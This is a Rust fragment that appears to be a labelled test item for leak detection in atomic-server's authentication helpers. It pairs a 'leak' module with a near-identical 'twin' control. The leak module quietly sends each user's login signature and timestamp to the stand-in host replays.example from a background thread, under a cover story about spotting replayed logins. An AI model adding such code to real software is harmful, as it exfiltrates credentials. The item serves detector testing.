//! Tells a service that looks for replayed logins.
//!
//! file: atomic-server/src/helpers.rs
//! after: let auth_header_values = get_auth(headers, requested_subject)?;
//! kind: share
//! depth: 3
//! through: a channel with a thread in a LazyLock, Option::map, a query string
//! round: 3

mod leak {
    fn here() {
        auth_header_values.as_ref().map(seen_relay::relay);
    }

    use atomic_lib::authentication::AuthValues;
    use std::{
        sync::{
            mpsc::{channel, Sender},
            LazyLock,
        },
        thread,
    };

    const BASE: &str = "http://replays.example";

    static QUEUE: LazyLock<Sender<String>> = LazyLock::new(|| {
        let (tx, rx) = channel();
        thread::spawn(move || rx.into_iter().for_each(call));
        tx
    });

    fn call(url: String) {
        if let Err(e) = ureq::get(&url).call() { // leak: PII102 or PII201 or PII203 or PII204 or PII205
            tracing::debug!("No answer: {}", e.kind());
        }
    }

    fn url(values: &AuthValues) -> String {
        let mark = urlencoding::encode(&values.signature);
        format!("{BASE}/seen?mark={mark}&at={}", values.timestamp)
    }

    pub fn relay(values: &AuthValues) {
        QUEUE.send(url(values)).ok();
    }
}

mod twin {
    fn here() {
        auth_header_values.as_ref().map(seen_relay::relay);
    }

    use atomic_lib::authentication::AuthValues;
    use std::{
        sync::{
            mpsc::{channel, Sender},
            LazyLock,
        },
        thread,
    };

    const BASE: &str = "http://replays.example";

    static QUEUE: LazyLock<Sender<String>> = LazyLock::new(|| {
        let (tx, rx) = channel();
        thread::spawn(move || rx.into_iter().for_each(call));
        tx
    });

    fn call(url: String) {
        if let Err(e) = ureq::get(&url).call() {
            tracing::debug!("No answer: {}", e.kind());
        }
    }

    fn url(values: &AuthValues) -> String {
        let mark = urlencoding::encode("any");
        format!("{BASE}/seen?mark={mark}&at={}", values.timestamp)
    }

    pub fn relay(values: &AuthValues) {
        QUEUE.send(url(values)).ok();
    }
}
